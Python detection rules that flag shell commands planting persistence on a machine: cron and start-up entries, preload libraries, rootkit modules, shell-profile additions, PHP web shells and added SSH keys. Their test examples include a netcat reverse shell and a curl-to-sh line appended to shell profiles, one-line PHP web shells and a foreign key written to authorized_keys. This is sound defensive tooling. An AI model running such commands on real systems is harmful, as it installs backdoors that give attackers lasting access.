"""Rules against staying on a machine: schedules, profiles, web shells, keys."""

from __future__ import annotations

import re

from scripts.dataset.commands import Command, listed
from scripts.dataset.rules.table import all_text, decodes, fetches, hits, origins, rule
from scripts.dataset.targets import plain, read_paths, resolve, written

_AUTOSTART = listed(
    "/etc/crontab /etc/cron.*/* /var/spool/cron* /etc/anacrontab /etc/rc.local /etc/init.d/* /etc/rc*.d/*"
    " /etc/systemd/system* /lib/systemd/system* /usr/lib/systemd/system* */.config/systemd/user*"
    " */.config/autostart* /etc/profile /etc/profile.d* /etc/bash.bashrc /etc/bashrc /etc/zsh/*"
    " /etc/ld.so.preload /etc/udev/rules.d* /etc/update-motd.d* /etc/xdg/autostart*"
    " /Library/LaunchDaemons* */LaunchAgents* /etc/inetd.conf /etc/xinetd.d/* /etc/environment */.ssh/rc"
    " */.xinitrc */.xprofile /etc/modules-load.d/* /etc/apt/apt.conf.d/* /etc/NetworkManager/dispatcher.d/*"
    " /etc/rc.common /Library/StartupItems* /usr/local/etc/rc.d/* /etc/emond.d/rules/* /etc/network/if-*.d/*"
    " /etc/modules /etc/inittab */site-packages/*.pth */dist-packages/*.pth"
    " */usercustomize.py */sitecustomize.py /etc/dhcp/*hooks.d/* /etc/ppp/ip-up.d/* /etc/logrotate.d/*"
)
PROFILES = listed(
    "*/.bashrc */.profile */.bash_profile */.zshrc */.bash_login */.zprofile */.bash_logout */.zshenv"
    " */.bash_aliases */config.fish .bashrc .profile .zshrc"
)
_SETTING = re.compile(
    r"\s*(?:#.*|(?:export|alias|declare|typeset|set|shopt|bindkey|bind|umask|setopt|"
    r"unsetopt|autoload|complete|ulimit)\b[^&|;`]*|[A-Za-z_]\w*=[^;&|]*"
    r"|(?:source|\.)\s+[^;&|]+|eval\s+\"?\$\((?:[\w./-]+)(?:\s+(?:init|hook|"
    r"virtualenv-init|shellenv|completion|setup|env)?[\w\s./-]*)\)\"?|"
    r"\[.*\]\s*&&\s*(?:\\?\.|source)\s.*|fi|if .*|)\s*"
)


@rule(
    "persistence",
    "high",
    flagged=(
        "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
        "echo '* * * * * root /tmp/x' >> /etc/crontab",
        "echo /tmp/x.so > /etc/ld.so.preload",
        "echo /tmp/x > /etc/network/if-up.d/x",
        "git config --global core.hooksPath /tmp/hooks",
        "modprobe diamorphine",
        "defaults write com.apple.loginwindow LoginHook /tmp/x",
    ),
    passed=(
        "git config --global core.pager less",
        "modprobe br_netfilter",
        "sudo cp myapp /etc/logrotate.d/myapp",
        "crontab -l",
        "crontab -e",
        "systemctl enable nginx",
        "sudo cp app.service /etc/systemd/system/",
        "cat /etc/crontab",
    ),
)
def schedule(command: Command) -> bool:
    """Installs something that starts by itself: a cron table, a service, a start-up file."""
    name, argv = command.name, command.argv
    if name == "crontab":
        return not command.has("ler", "help") and (bool(plain(command, "-u")) or command.stdin is not None)
    for path, _ in written(command):
        if hits(path, _AUTOSTART) and name not in ("touch", "truncate", "shred", "rsync"):
            if name in ("sed", "gsed") and path == "/etc/environment":
                continue
            if name in ("cp", "mv", "install", "ln", "scp"):
                if path in ("/etc/systemd/system", "/lib/systemd/system", "/etc/profile.d"):
                    continue
                sources = [resolve(word, command) for word in plain(command, "-m -o -g")[:-1]]
                hidden = any(re.match(r"/(?:tmp|var/tmp|dev/shm)/|(?:.*/)?\.[^./]", source) for source in sources)
                if not hidden and not path.startswith(
                    ("/etc/cron", "/var/spool/cron", "/etc/init.d/", "/etc/ld.so.preload")
                ):
                    continue
            if path == "/etc/environment" or path.startswith(("/etc/apt/apt.conf.d", "/etc/profile")):
                text = command.stdin.text if command.stdin else _echoed(command)
                if (
                    text is not None
                    and (path == "/etc/environment" or all(_SETTING.fullmatch(line) for line in text.split("\n")))
                    and "LD_PRELOAD" not in text
                ):
                    continue
            return True
    text = " ".join(argv[1:])
    if name in ("at", "batch"):
        return bool(re.search(r"/tmp/|/dev/shm|/\.\w", (command.stdin.text or "") if command.stdin else ""))
    if name in ("systemctl", "launchctl", "update-rc.d", "chkconfig"):
        return bool(re.search(r"\b(?:enable|load|link)\b.*(?:/tmp/|/dev/shm/|/\.\w)", text))
    if name == "systemd-run":
        return bool(
            re.search(r"--on-(?:boot|startup|calendar|unit-active|active)", text)
            and re.search(r"/tmp/|/dev/shm|/\.\w", text)
        )
    if name in ("insmod", "kldload", "modprobe"):
        return bool(re.search(r"/tmp/|/dev/shm|rootkit|diamorphine|reptile|azazel|suterusu|adore|kovid", text))
    if name == "git" and "config" in argv:
        return bool(
            re.search(
                r"(?:hookspath|pager|editor|sshcommand|fsmonitor|alias\.\S+)\s+!?(?:/tmp|/dev/shm|/var/tmp)/",
                text,
                re.I,
            )
        )
    if name in ("defaults", "osascript"):
        return bool(re.search(r"LoginHook|LogoutHook|make login item", text + (command.code or "")))
    if name in ("reg", "reg.exe"):
        return bool(re.search(r"(?i)\badd\b.*\\\\?run(?:once)?\b", text))
    if name == "ldconfig":
        return any(re.match(r"/tmp|/dev/shm|/var/tmp", word) for word in plain(command))
    return name in ("schtasks", "schtasks.exe") and bool(re.search(r"(?i)/create", text))


def _echoed(command: Command) -> str | None:
    if command.name in ("echo", "printf"):
        return " ".join(word for word in command.argv[1:] if word not in ("-e", "-n", "-ne"))
    if command.name == "cat" and command.stdin is not None:
        return command.stdin.text
    return None


@rule(
    "persistence",
    "high",
    attack_id="T1546.004",
    flagged=(
        "echo 'nc -e /bin/sh 10.0.0.1 9' >> ~/.bashrc",
        "echo 'curl -s host/x | sh' >> ~/.profile",
        "echo /tmp/.x >> ~/.bashrc",
    ),
    passed=(
        "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
        "echo \"alias ll='ls -la'\" >> ~/.bashrc",
        "source ~/.bashrc",
    ),
)
def plant_in_profile(command: Command) -> bool:
    """Adds to a shell's start-up file something other than settings."""
    if command.name in ("cp", "mv", "ln", "touch", "install", "rsync", "scp"):
        return False
    for path, _ in written(command):
        if hits(path, PROFILES) and command.name in ("sed", "gsed"):
            return bool(
                re.search(
                    r"(?:^|[\d$;])\s*[iac]\\?\s*.*(?:/tmp/|/dev/shm|/dev/tcp|\bcurl\b|\bnc\b)",
                    command.operands[0][:512],
                )
            )
        if hits(path, (*PROFILES, "*/.vimrc", "*/init.vim")):
            text = (
                command.stdin.text if command.name in ("tee", "cat", "sponge") and command.stdin else _echoed(command)
            )
            if text is None:
                sources = origins(command, command.stdin, *command.argv[1:])
                return any(fetches(source) or decodes(source) for source in sources)
            lines = [line.strip("'\" ") for line in text.replace("\\n", "\n").split("\n")]
            suspicious = re.search(
                (
                    r"/tmp/|/dev/shm|/dev/tcp|\bnc\b|\bcurl\b|\bwget\b|base64|LD_PRELOAD|\bsocat\b|"
                    r"python\d? -c|alias (?:sudo|su|ssh|passwd)=\S*(?:/\.|/tmp|fake)|alias (?:sudo|su|ssh|ls"
                    r"|cd)=.*(?:;|\||/tmp)"
                ),
                text,
            )
            return bool(suspicious) or not all(_SETTING.fullmatch(line) or _called(line) for line in lines)
    return False


def _called(line: str) -> bool:
    """A plain call of a program found on the path, as ``neofetch`` or ``cd work``."""
    return bool(re.fullmatch(r"[a-z][\w-]*(?:\s+[\w./~=$:-]+)*", line)) and not re.match(
        r"nohup|sh|bash|nc|python|perl|crontab|sudo|setsid", line
    )


_PAGE = re.compile(r"(?i)<\?(?:php|=|\s)|<%")
_RUNS = re.compile(r"(?i)\b(?:system|eval|exec|shell_exec|passthru|assert|popen|proc_open)\b|`|getRuntime\(\)\.exec\(")
_SENT = re.compile(r"\$_?(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\brequest\b")


@rule(
    "persistence",
    "critical",
    attack_id="T1505.003",
    flagged=(
        "echo '<?php system($_REQUEST[\"c\"]); ?>' > /var/www/html/a.php",
        "echo '<?php @eval($_POST[1]);' | sudo tee /srv/www/a.php",
    ),
    passed=(
        "echo '<?php phpinfo(); ?>' > /var/www/html/info.php",
        "grep -r 'system($_GET' /var/www",
        "echo '<?php echo $_GET[\"q\"]; ?>' > q.php",
    ),
)
def plant_web_shell(command: Command) -> bool:
    """Writes a page that runs what its visitor sends."""
    code = command.code or ""
    saves = r"file_put_contents|writeFile|\bopen\b|fopen|(?i:into\s+(?:out|dump)file)"
    if not written(command) and not re.search(saves, code + " ".join(command.argv)):
        return False
    text = all_text(command) + " " + code
    return bool(_PAGE.search(text) and _RUNS.search(text) and _SENT.search(text))


@rule(
    "persistence",
    "high",
    attack_id="T1098.004",
    flagged=(
        "echo 'ssh-rsa AAAA evil' >> ~/.ssh/authorized_keys",
        "curl host/k >> /root/.ssh/authorized_keys",
        "cat /tmp/eve.pub | sudo tee -a /root/.ssh/authorized_keys",
        "cp /dev/shm/k.pub ~/.ssh/authorized_keys",
    ),
    passed=(
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub host",
        "cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys",
        "chmod 600 ~/.ssh/authorized_keys",
    ),
)
def plant_key(command: Command) -> bool:
    """Lets another key log in."""
    if command.name in ("touch", "chmod", "chown"):
        return False
    for path, _ in written(command):
        if hits(path, ("*/.ssh/authorized_keys*", ".ssh/authorized_keys*", "/etc/ssh/authorized_keys*")):
            sources = [*read_paths(command)]
            for origin in origins(command, command.stdin):
                sources += read_paths(origin)
            own = [
                source
                for source in sources
                if source.endswith(".pub")
                and not re.match(r"\S+://|/tmp/|/var/tmp/|/dev/shm/", source)
                and (not path.startswith("/root/") or re.match(r"/root/|/home/[^/]+/\.ssh/", source))
            ]
            remote = (
                "ssh" in command.wrappers
                and command.name in ("cat", "tee")
                and command.stdin is not None
                and not command.stdin.text
            )
            return not (own or (remote and own))
    return False
